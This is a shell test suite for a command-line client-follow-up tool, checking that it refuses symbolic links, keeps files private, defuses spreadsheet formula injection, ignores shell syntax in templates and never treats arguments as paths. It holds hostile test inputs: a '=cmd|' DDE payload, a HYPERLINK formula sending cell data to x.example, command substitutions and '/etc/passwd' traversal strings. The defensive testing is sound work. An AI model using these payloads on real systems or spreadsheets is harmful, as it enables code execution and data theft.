# Security (SPEC 7, "No input makes fu read or write outside the portfolio
# and its standard streams"): links are refused, the files stay private
# whatever the umask, typed text cannot become a spreadsheet formula, a
# template prints only its fields, and no argument is taken for a path.
. "${0%/*}/lib.sh"

fu-add client Ana --consent >/dev/null
fu-add agreement Ana 'Send the quote' --due today >/dev/null
fu-log Ana --next 'Call about the quote' --due +1d >/dev/null

# A table that is a symbolic link is refused by readers and writers, even
# when it points to a good table; what it points to is left alone.
link_msg='is a symbolic link; fu refuses to follow it'
for tb in clients agreements log; do
	mv "$P/$tb.csv" "$tmp/real.csv"
	cp "$tmp/real.csv" "$tmp/real.before"
	ln -s "$tmp/real.csv" "$P/$tb.csv"
	t 4 '' "fu-due: $tb.csv: $link_msg" fu-due
	t 4 '' "fu-add: $tb.csv: $link_msg" fu-add client Eva
	t 4 '' "fu-add: $tb.csv: $link_msg" fu-add agreement Ana 'Send the contract' --due +1d
	t 4 '' "fu-log: $tb.csv: $link_msg" fu-log Ana -a 2 --next 'Visit with the demo unit' --due +2d
	t 4 '' "fu-log: $tb.csv: $link_msg" fu-log Ana --signal 'missed a payment'
	ok "$tb.csv: what the link points to is untouched" cmp "$tmp/real.csv" "$tmp/real.before"
	rm "$P/$tb.csv"
	mv "$tmp/real.csv" "$P/$tb.csv"
done
# A dangling link is not followed to make a file.
mv "$P/log.csv" "$tmp/log.csv"
ln -s "$tmp/nowhere.csv" "$P/log.csv"
t 4 '' "fu-log: log.csv: $link_msg" fu-log Ana -a 2 --next 'Visit with the demo unit' --due +2d
t 4 '' "fu-due: log.csv: $link_msg" fu-due
ok 'no file made where a dangling link points' test ! -e "$tmp/nowhere.csv"
rm "$P/log.csv"
mv "$tmp/log.csv" "$P/log.csv"
# Nor is a lock file that is a link.
rm "$P/.lock"
ln -s "$tmp/victim" "$P/.lock"
t 4 '' "fu-add: $P/.lock: is not a regular file; fu made no such thing: remove it" fu-add client Eva
t 4 '' "fu-due: $P/.lock: is not a regular file; fu made no such thing: remove it" fu-due
ok 'no file made where the lock link points' test ! -e "$tmp/victim"
rm "$P/.lock"

# The directory is 0700 and the files 0600, whatever the umask.
modes() { (cd "$1" && stat -c '%n %a' . .lock clients.csv agreements.csv log.csv); }
want_modes='. 700
.lock 600
clients.csv 600
agreements.csv 600
log.csv 600'
for u in 000 002 022 077; do
	(umask $u && FU_PORTFOLIO=$tmp/m$u/p fu-add client Ana >/dev/null)
	ok "umask $u: a new portfolio is private" test "$(modes "$tmp/m$u/p")" = "$want_modes"
done
# Tables made later, by fu-log on a portfolio of only clients.csv.
mkdir -m 700 "$tmp/late"
printf 'id,name\n1,Ana\n' >"$tmp/late/clients.csv"
chmod 600 "$tmp/late/clients.csv"
(umask 000 && FU_PORTFOLIO=$tmp/late fu-log Ana --next 'Send the quote for 3 laptops' --due +1d >/dev/null)
ok 'umask 000: tables made by fu-log are private' test "$(modes "$tmp/late")" = "$want_modes"
(umask 000 && fu-add client Eva >/dev/null)
ok 'umask 000: an append keeps the files private' test "$(modes "$P")" = "$want_modes"

# Text that a spreadsheet would run as a formula (= + - @ tab CR at the
# start) is stored with an apostrophe inside the field, and shown back as
# typed.  An apostrophe typed before plain text is kept as it is.
t 0 3 '' fu-add client '=1+1'
t 0 4 '' fu-add client -- '-2+3'
t 0 5 '' fu-add client '+34 600 000 000' --company '@acme' --email '=x@y' --phone '-1' --stage '+hot' --note '@all'
t 0 6 '' fu-add client '=HYPERLINK("http://x.example/?"&A1,"Click")'
t 0 7 '' fu-add client "'quoted"
t 0 8 '' fu-add client "'=already"
t 0 9 '' fu-add client 'Tab note' --note "$(printf '\tstarts with a tab')"
t 2 '' 'fu-add: --note holds a control character' fu-add client 'CR note' --note "$(printf '\rstarts with a CR')"
row() { grep "^$1," "$P/$2"; }
ok 'stored: =1+1' test "$(row 3 clients.csv)" = "3,'=1+1,,,,2026-11-23,,,,,,,"
ok 'stored: -2+3' test "$(row 4 clients.csv)" = "4,'-2+3,,,,2026-11-23,,,,,,,"
ok 'stored: every text column' test "$(row 5 clients.csv)" = "5,'+34 600 000 000,'@acme,'=x@y,'-1,2026-11-23,,,,,'+hot,,'@all"
ok 'stored: the apostrophe inside the quotes' test "$(row 6 clients.csv)" = "6,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",,,,2026-11-23,,,,,,,"
ok "stored: 'quoted as typed" test "$(row 7 clients.csv)" = "7,'quoted,,,,2026-11-23,,,,,,,"
ok "stored: '=already with one more" test "$(row 8 clients.csv)" = "8,''=already,,,,2026-11-23,,,,,,,"
ok 'stored: a tab' test "$(row 9 clients.csv)" = "9,Tab note,,,,2026-11-23,,,,,,,'$(printf '\t')starts with a tab"
t 0 "2 Eva
3 =1+1
4 -2+3
5 +34 600 000 000
6 =HYPERLINK(\"http://x.example/?\"&A1,\"Click\")
7 'quoted
8 '=already
9 Tab note" '' fu-due --adrift -f '{client_id} {client}'
t 0 '3' '' fu-add agreement 3 --due today --channel '@phone' -- '=cmd|'"'"'/C calc'"'"'!A0 then send the quote'
t 0 '4' '' fu-add agreement 4 --due today --channel '-' -- '-10% on the laptops: send the new quote'
ok 'stored: the step and channel' test "$(row 3 agreements.csv)" = "3,3,'=cmd|'/C calc'!A0 then send the quote,2026-11-23,'@phone,,2026-11-23,,,,"
t 0 "=cmd|'/C calc'!A0 then send the quote|@phone" '' fu-due -f '{what}|{channel}' --client 3
t 0 "-10% on the laptops: send the new quote|-" '' fu-due -f '{what}|{channel}' --client 4
t 0 '5' '' fu-log 3 --channel '=phone' --note '+1 more laptop' --next '@ her office: demo' --due +1d
ok 'stored: the log channel and note' test "$(row 2 log.csv)" = "2,2026-11-23,3,3,'=phone,kept,,,5,'+1 more laptop,"
# The same in a TSV portfolio, where a tab is written \t.
tsv() { env FU_PORTFOLIO="$tmp/tsv" FU_FORMAT=tsv "$@"; }
t 0 1 '' tsv fu-add client '=1+1' --note "$(printf '\tx')"
ok 'TSV: stored with the apostrophe' test "$(grep '^1' "$tmp/tsv/clients.tsv")" = "$(printf "1\t'=1+1\t\t\t\t2026-11-23\t\t\t\t\t\t\t'\\\\tx")"
t 0 "1 =1+1" '' tsv fu-due --adrift -f '{client_id} {client}'

# A template prints its text and its fields, nothing else: no printf
# conversions, no shell, no environment, no field that is not one.
t 0 "%n%s%x \$(touch $tmp/pwned) \`id\` 4" '' \
    fu-due -f '%n%s%x $(touch '"$tmp"'/pwned) `id` {id}' --client 4
ok 'the template ran nothing' test ! -e "$tmp/pwned"
fields='due late client what channel id client_id every slips side plan'
t 2 '' "fu-due: --format: unknown field \"../x\"; the fields are: $fields" fu-due -f '{../x}'
t 2 '' "fu-due: --format: unknown field \"HOME\"; the fields are: $fields" fu-due -f '${HOME}'
t 2 '' "fu-due: --format: unknown field \"/etc/passwd\"; the fields are: $fields" fu-due -f '{/etc/passwd}'
t 0 '\x41|\e[31m|\0|\r|{id}' '' fu-due -f '\x41|\e[31m|\0|\r|\{id\}' --client 4
# A value that looks like a template is data.
t 0 6 '' fu-add agreement 7 'Send {client} the %s $(id) quote' --due today
t 0 "Send {client} the %s \$(id) quote" '' fu-due -f '{what}' --client 7

# Arguments are names and text, never paths: nothing is made outside the
# portfolio, wherever the command is run from.
mkdir "$tmp/sand" "$tmp/sand/cwd"
export FU_PORTFOLIO=$tmp/sand/p
fu-add client Seed >/dev/null
near() { find "$tmp" / -maxdepth 1 \( -name x -o -name y \) | sort; }
near >"$tmp/x.before"
find "$tmp/sand" | sort >"$tmp/sand.before"
(
	cd "$tmp/sand/cwd" || exit
	fu-add client '../../x' >/dev/null
	fu-add client '/x' --company '../y' --email '../../../x' --note '/etc/passwd' --tag x >/dev/null
	fu-add client 'Eva' --referred-by '../../x' >/dev/null
	fu-add agreement '../../x' 'Send ../../x the quote' --due +1d --channel '../y' >/dev/null
	fu-log '../../x' --channel '../../x' --note '../x' --next 'Send /x the quote' --due +2d >/dev/null
	fu-log '/x' --referral '../../x' >/dev/null
	fu-due --client '../../x' -f '{client} {what}\n' >/dev/null
	fu-due --adrift --json >/dev/null
	fu-due --tag '../x' >/dev/null 2>&1
	fu-add client 'Late' --today '../x' >/dev/null 2>&1
	fu-add agreement Seed 'Send the quote' --due '../../x' >/dev/null 2>&1
	fu-due --within '../x' >/dev/null 2>&1
	true
)
ok 'the names and notes were stored' test "$(grep -c '\.\./\.\./x' "$tmp/sand/p/clients.csv")" -ge 2
find "$tmp/sand" | grep -v "^$tmp/sand/p/" | sort >"$tmp/sand.after"
ok 'nothing made beside the portfolio' test "$(cat "$tmp/sand.after")" = "$(grep -v "^$tmp/sand/p/" "$tmp/sand.before")"
ok 'no file x or y made anywhere near' test "$(near)" = "$(cat "$tmp/x.before")"
# Inside it too, only fu's own names (the tables, the lock, a state cache).
ok 'the portfolio holds only its files' test -z "$(ls -A "$tmp/sand/p" |
    grep -Ev '^(\.lock|(clients|agreements|log)\.[ct]sv|\.fu-state)$')"
